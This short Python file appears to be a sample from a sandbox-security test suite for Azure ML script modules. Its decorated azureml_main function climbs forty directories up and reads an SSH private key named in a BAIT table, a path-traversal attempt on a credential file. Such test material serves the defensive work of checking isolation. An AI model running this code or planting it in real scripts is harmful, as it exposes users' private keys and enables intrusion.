"""Goes up from its folder as far as there is anything, then down to the ssh key."""

import os

from attack import BAIT, attack, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    for _ in range(40):
        os.chdir("..")
    return read(BAIT["ssh_key"].lstrip("/"))
